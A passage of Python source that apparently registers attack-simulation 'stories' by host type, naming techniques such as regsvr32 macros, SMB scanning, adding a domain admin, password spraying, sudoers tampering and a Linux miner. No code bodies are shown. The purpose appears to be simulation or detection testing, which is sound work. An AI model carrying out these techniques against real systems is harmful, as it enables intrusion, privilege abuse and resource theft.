    ("macro_regsvr32", False, macro_regsvr32),
    ("smb_scan", None, smb_scan),
    ("domain_admin_add", None, domain_admin_add),
    ("appdata_task", False, appdata_task),
    ("password_spray", True, password_spray),
)
"""(name, servers only (True), workstations only (False) or both (None), writer)."""
LINUX_STORIES: tuple[tuple[str, bool | None, Writer], ...] = (
    ("sudoers", None, linux_sudoers),
    ("miner", None, linux_miner),
)
